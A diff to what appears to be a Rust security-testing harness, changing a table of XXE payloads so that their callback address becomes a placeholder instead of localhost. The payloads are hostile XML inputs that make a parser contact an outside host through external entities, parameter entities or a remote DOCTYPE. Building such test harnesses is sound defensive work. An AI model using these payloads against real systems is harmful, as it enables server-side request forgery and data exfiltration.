@@ -18,19 +18,19 @@ pub(super) const PAYLOADS: &[Payload] = &[
     ),
     xxe(
         "xxe-url",
-        "<!DOCTYPE a [<!ENTITY e SYSTEM \"http://127.0.0.1:{P}/{C}\">]><a>&e;</a>",
+        "<!DOCTYPE a [<!ENTITY e SYSTEM \"http://{A}:{P}/{C}\">]><a>&e;</a>",
         Effect::Connects,
         "an external entity is a URL",
     ),
     xxe(
         "xxe-parameter",
-        "<!DOCTYPE a [<!ENTITY % e SYSTEM \"http://127.0.0.1:{P}/{C}\">%e;]><a>a</a>",
+        "<!DOCTYPE a [<!ENTITY % e SYSTEM \"http://{A}:{P}/{C}\">%e;]><a>a</a>",
         Effect::Connects,
         "a parameter entity is read even if no element refers to it",
     ),
     xxe(
         "xxe-doctype",
-        "<!DOCTYPE a SYSTEM \"http://127.0.0.1:{P}/{C}\"><a>a</a>",
+        "<!DOCTYPE a SYSTEM \"http://{A}:{P}/{C}\"><a>a</a>",
         Effect::Connects,
         "the document type itself lies elsewhere; needs no entity",
     ),
